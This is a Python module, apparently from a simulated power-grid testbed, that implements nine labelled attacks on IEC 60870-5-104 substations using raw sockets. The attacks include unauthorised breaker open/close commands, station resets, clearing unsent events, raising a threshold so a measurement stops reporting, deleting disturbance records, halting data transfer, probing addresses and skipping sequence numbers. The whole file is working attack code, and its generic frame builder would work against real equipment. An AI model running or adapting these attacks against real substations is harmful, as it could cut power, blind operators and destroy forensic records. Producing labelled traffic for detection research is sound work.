"""The attacks on the substations, one function each; its name is its label.

Run as `python -m telecontrol.attacks NAME` on the attacking host; prints start and end as epoch
seconds. All use plain sockets, to send what c104 would not; the stations are simulated.
"""

from __future__ import annotations

import argparse
import contextlib
import socket
import struct
import time
from dataclasses import dataclass
from typing import TYPE_CHECKING, Self

from telecontrol import devices

if TYPE_CHECKING:
    from collections.abc import Callable

    from plant.devices import Host

ANSWER_SECONDS = 0.4
CLOSE_SECONDS = 0.2
PROBED_ADDRESSES = 60
STARTDT, STOPDT = b"\x68\x04\x07\0\0\0", b"\x68\x04\x13\0\0\0"
ACTIVATION, FILE_TRANSFER = 6, 13
INTERROGATE = bytes((20,))
QRP_GENERAL, QRP_EVENTS = bytes((1,)), bytes((2,))


class RawCentre:
    """A controlling station that sends any ASDU, with numbers of its choice."""

    def __init__(self, name: str) -> None:
        """Connect to a station and start data transfer; OSError if it does not accept."""
        host, self._common_address = devices.STATIONS[name]
        self._socket = socket.create_connection((host.address, devices.PORT), timeout=5)
        self._socket.settimeout(ANSWER_SECONDS)
        self._sent = 0
        self._received = 0
        self._rest = b""
        self.put(STARTDT)

    def __enter__(self) -> Self:
        """Use the open connection."""
        return self

    def __exit__(self, *_: object) -> None:
        """Close the connection."""
        self._socket.close()

    def put(self, apdu: bytes) -> None:
        """Send an APDU and listen for a moment; a station may close the connection."""
        with contextlib.suppress(ConnectionError, BrokenPipeError):
            self._socket.sendall(apdu)
            self._listen()

    def tell(
        self, type_id: int, address: int, element: bytes, cause: int = ACTIVATION, skip: int = 0
    ) -> None:
        """Send an I frame of one object; `skip` leaves numbers out."""
        identifier = struct.pack("<BBBBH", type_id, 1, cause, 0, self._common_address)
        asdu = identifier + address.to_bytes(3, "little") + element
        self._sent += skip
        numbers = struct.pack("<HH", self._sent << 1, self._received << 1)
        self._sent += 1
        self.put(bytes((0x68, 4 + len(asdu))) + numbers + asdu)

    def _listen(self) -> None:
        """Count the I frames that come."""
        with contextlib.suppress(TimeoutError):
            while data := self._socket.recv(4096):
                self._rest += data
                while len(self._rest) >= 6 and len(self._rest) >= 2 + self._rest[1]:
                    self._received += self._rest[2] % 2 == 0
                    self._rest = self._rest[2 + self._rest[1] :]


@dataclass(frozen=True, slots=True)
class Attack:
    """One attack: its label, the host that it comes from, when, and what is done."""

    label: str
    host: Host
    second: float
    run: Callable[[], None]


def rogue_command() -> None:
    """Open and close a breaker of station 1 from a computer that nobody knows."""
    with RawCentre("station1") as line:
        line.tell(45, devices.SINGLE_COMMANDS[1], b"\0")
        line.tell(45, devices.SINGLE_COMMANDS[1], b"\1")


def reset_process() -> None:
    """Reset station 2."""
    with RawCentre("station2") as line:
        line.tell(105, 0, QRP_GENERAL)


def clear_events() -> None:
    """Have station 2 forget the events that it has not sent."""
    with RawCentre("station2") as line:
        line.tell(105, 0, QRP_EVENTS)


def change_parameter() -> None:
    """Set the threshold of a measured value of station 1 so high that it reports nothing more."""
    with RawCentre("station1") as line:
        line.tell(112, devices.MEASURED[1], struct.pack("<fB", 1e6, 1))


def delete_file() -> None:
    """Delete a disturbance record of station 1."""
    with RawCentre("station1") as line:
        line.tell(122, 1, b"\2\0\0\4", FILE_TRANSFER)


def file_to_station() -> None:
    """Offer a file to station 2."""
    with RawCentre("station2") as line:
        line.tell(120, 1, b"\7\0" + (4096).to_bytes(3, "little") + b"\0", FILE_TRANSFER)


def stop_transfer() -> None:
    """Stop what station 1 sends on a connection."""
    with RawCentre("station1") as line:
        line.put(STOPDT)


def probe_addresses() -> None:
    """Select objects that station 2 does not have, one after the other."""
    with RawCentre("station2") as line:
        for place in range(PROBED_ADDRESSES):
            line.tell(45, devices.NO_POINT + place, b"\x81")


def removed_message() -> None:
    """Leave out two numbers, as if two messages had been taken out on the way."""
    with RawCentre("station1") as line:
        line.tell(100, 0, INTERROGATE)
        line.tell(100, 0, INTERROGATE, skip=2)


ATTACKS = (
    Attack("rogue-command", devices.ROGUE, 20.0, rogue_command),
    Attack("reset-process", devices.CENTRE, 40.0, reset_process),
    Attack("clear-events", devices.CENTRE, 55.0, clear_events),
    Attack("change-parameter", devices.CENTRE, 70.0, change_parameter),
    Attack("delete-file", devices.CENTRE, 85.0, delete_file),
    Attack("file-to-station", devices.CENTRE, 100.0, file_to_station),
    Attack("stop-transfer", devices.CENTRE, 115.0, stop_transfer),
    Attack("removed-message", devices.CENTRE, 130.0, removed_message),
    Attack("probe-addresses", devices.CENTRE, 145.0, probe_addresses),
)


def main() -> None:
    """Run one attack and print when it began and ended."""
    attacks = {attack.label: attack for attack in ATTACKS}
    parser = argparse.ArgumentParser()
    parser.add_argument("label", choices=attacks)
    attack = attacks[parser.parse_args().label]
    start = time.time()
    attack.run()
    time.sleep(CLOSE_SECONDS)
    print(start, time.time(), flush=True)


if __name__ == "__main__":
    main()
